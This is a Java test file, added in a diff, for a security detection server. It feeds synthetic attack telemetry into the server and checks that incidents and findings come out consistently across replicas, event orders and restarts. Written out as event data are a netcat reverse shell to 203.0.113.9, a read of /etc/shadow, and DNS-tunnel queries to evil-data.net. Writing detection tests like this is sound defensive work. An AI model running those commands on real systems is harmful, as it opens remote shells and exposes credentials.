@@ -1,0 +1,228 @@
+package dev.panoptes.server.detections;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.panoptes.server.TestServer;
+import dev.panoptes.server.TestServer.Answer;
+import dev.panoptes.server.storage.DatabaseAddress;
+import dev.panoptes.server.storage.TestPostgres;
+import dev.panoptes.server.storage.TestPostgres.Databases;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.time.temporal.ChronoUnit;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.UUID;
+import java.util.stream.IntStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.JsonNode;
+
+/** What follows from several events follows in the transaction that stores the last of them, whatever their order and way. */
+@ExtendWith(TestPostgres.class)
+class ConclusionsTest {
+    private static final Map<String, String> SETTINGS = Map.of("observe.local", "false");
+
+    @TempDir
+    Path directory;
+
+    private final Instant start = Instant.now().minusSeconds(7_200).truncatedTo(ChronoUnit.SECONDS);
+    private final List<String> events = new ArrayList<>();
+
+    private void add(int second, String dataset, String fields) {
+        events.add("{\"@timestamp\":\"" + start.plusSeconds(second) + "\",\"event\":{\"id\":\"e" + events.size()
+                + "\",\"dataset\":\"panoptes." + dataset + "\"," + fields.replaceFirst("^\\{", "")
+                + ",\"host\":{\"name\":"
+                + "\"web-1\"}}");
+    }
+
+    private void login(int second, boolean success, String user) {
+        add(
+                second,
+                "auth",
+                "{\"action\":\"" + (success ? "login" : "login_failed") + "\"},\"user\":{\"name\":\"" + user
+                        + "\"},\"source\":{\"ip\":\"203.0.113.9\"},\"auth\":{\"method\":\"password\"},\"process\":"
+                        + "{\"name\":\"sshd\",\"pid\":" + (4_000 + second) + "}");
+    }
+
+    private void process(int second, String line) {
+        add(
+                second,
+                "proc",
+                "{\"action\":\"process_started\"},\"user\":{\"name\":\"deploy\"},\"process\":{\"executable\":\"/usr/bin/"
+                        + line.split(" ")[0] + "\",\"command_line\":\"" + line + "\"}");
+    }
+
+    private void chain() {
+        IntStream.range(0, 40).forEach(i -> login(i * 5, false, "deploy"));
+        login(210, true, "deploy");
+        for (String line : List.of("id -u", "uname -a", "ps aux", "ss -tlnp", "sudo -l", "crontab -l", "last -n 5")) {
+            process(230 + events.size() % 9, line);
+        }
+        process(300, "nc -e /bin/sh 203.0.113.9 4444");
+        process(330, "cat /etc/shadow");
+        for (int i = 0; i < 40; i++) {
+            String name =
+                    UUID.nameUUIDFromBytes(new byte[] {(byte) i}).toString().replace("-", "") + ".t.evil-data.net";
+            add(
+                    400 + i,
+                    "dns",
+                    "{\"action\":\"query\"},\"source\":{\"ip\":\"10.0.0.7\"},\"dns\":{\"question\":{\"name\":\"" + name
+                            + "\",\"type\":\"TXT\"}}");
+        }
+    }
+
+    private static String token(TestServer server) throws IOException, InterruptedException {
+        return server.call("POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
+                .json()
+                .path("token")
+                .asString();
+    }
+
+    private static String batch(String stream, int first, List<String> events) {
+        return "{\"stream\":\"" + stream + "\",\"sensor\":\"auth\",\"first\":" + first + ",\"count\":" + events.size()
+                + ",\"lost\":[]}\n" + String.join("\n", events) + "\n";
+    }
+
+    private static void send(TestServer server, String token, String batch) throws IOException, InterruptedException {
+        Answer answer = server.call(
+                "POST",
+                "/api/v1/telemetry",
+                batch,
+                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"));
+        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
+    }
+
+    private static List<String> incidents(TestServer server) throws IOException, InterruptedException {
+        List<String> found = new ArrayList<>();
+        for (JsonNode item : server.get("/api/v1/incidents").json().path("items")) {
+            found.add(server.get("/api/v1/incidents/" + item.path("id").asString())
+                    .json()
+                    .path("details")
+                    .toString());
+        }
+        return found;
+    }
+
+    private static List<String> findings(TestServer server) throws IOException, InterruptedException {
+        List<String> found = new ArrayList<>();
+        for (JsonNode item : server.get("/api/v1/findings?limit=200").json().path("items")) {
+            found.add(item.path("name").asString());
+        }
+        Collections.sort(found);
+        return found;
+    }
+
+    /** A rule of the operator's own that counts. */
+    private Path withCounting(Path data) throws IOException {
+        Path rules = Files.createDirectories(data.resolve("rules.d"));
+        Files.writeString(rules.resolve("counting.yml"), """
+            title: A failed login
+            name: one_failure
+            logsource: {product: linux, service: sshd}
+            detection:
+              selection: {event.action: login_failed}
+              condition: selection
+            level: informational
+            ---
+            title: Twenty failures
+            name: twenty_failures
+            correlation:
+              type: event_count
+              rules: [one_failure]
+              group-by: [source.ip]
+              timespan: 5m
+              condition: {gte: 20}
+            level: medium
+            """);
+        return data;
+    }
+
+    @Test
+    void theSameEventsMakeTheSameIncidentInAnyOrderOverAnyReplicaTwiceAndLate(Databases databases)
+            throws IOException, InterruptedException {
+        chain();
+        List<String> wanted;
+        List<String> found;
+        try (TestServer server = TestServer.start(databases, withCounting(directory.resolve("one")), SETTINGS)) {
+            send(server, token(server), batch(UUID.randomUUID().toString(), 1, events));
+            wanted = incidents(server);
+            found = findings(server);
+        }
+        assertThat(wanted).hasSize(1);
+        assertThat(found)
+                .contains(
+                        "brute_force_detected",
+                        "credential_access",
+                        "dns_tunnel",
+                        "reconnaissance_burst",
+                        "reverse_shell_netcat",
+                        "shadow_file_read",
+                        "twenty_failures");
+        for (long seed = 1; seed <= 3; seed++) {
+            Random random = new Random(seed);
+            List<String> shuffled = new ArrayList<>(events);
+            Collections.shuffle(shuffled, random);
+            Path own = directory.resolve("seed" + seed);
+            DatabaseAddress address = databases.freshAddress();
+            try (TestServer first =
+                            TestServer.start(databases, address, withCounting(own.resolve("a")), SETTINGS, null);
+                    TestServer second =
+                            TestServer.start(databases, address, withCounting(own.resolve("b")), SETTINGS, null);
+                    TestServer third =
+                            TestServer.start(databases, address, withCounting(own.resolve("c")), SETTINGS, null)) {
+                List<TestServer> servers = List.of(first, second, third);
+                String token = token(first);
+                List<String> batches = new ArrayList<>();
+                for (int stream = 0; stream < 3; stream++) {
+                    String id = UUID.randomUUID().toString();
+                    List<String> own3 = new ArrayList<>();
+                    for (int i = stream; i < shuffled.size(); i += 3) {
+                        own3.add(shuffled.get(i));
+                    }
+                    int half = own3.size() / 2;
+                    batches.add(batch(id, 1, own3.subList(0, half)));
+                    batches.add(batch(id, half + 1, own3.subList(half, own3.size())));
+                }
+                for (String batch : batches) {
+                    send(servers.get(random.nextInt(3)), token, batch);
+                    send(servers.get(random.nextInt(3)), token, batch);
+                }
+                assertThat(incidents(third)).as("seed " + seed).isEqualTo(wanted);
+                assertThat(findings(second)).as("seed " + seed).isEqualTo(found);
+            }
+        }
+    }
+
+    @Test
+    void whatBeganBeforeARestartIsConcludedAfterItOnce(Databases databases) throws IOException, InterruptedException {
+        IntStream.range(0, 24).forEach(i -> login(i * 5, false, "deploy"));
+        DatabaseAddress address = databases.freshAddress();
+        String stream = UUID.randomUUID().toString();
+        String token;
+        Path data = withCounting(directory.resolve("data"));
+        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
+            token = token(server);
+            send(server, token, batch(stream, 1, events.subList(0, 5)));
+            assertThat(findings(server)).doesNotContain("brute_force_detected");
+        }
+        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
+            send(server, token, batch(stream, 1, events.subList(0, 12)));
+            assertThat(findings(server))
+                    .containsOnlyOnce("brute_force_detected")
+                    .doesNotContain("twenty_failures");
+        }
+        try (TestServer server = TestServer.start(databases, address, data, SETTINGS, null)) {
+            send(server, token, batch(stream, 6, events.subList(5, 24)));
+            assertThat(findings(server)).containsOnlyOnce("brute_force_detected", "twenty_failures");
+            assertThat(incidents(server)).hasSize(1);
+            assertThat(incidents(server).getFirst()).contains("24 failed logins");
+        }
+    }
+}
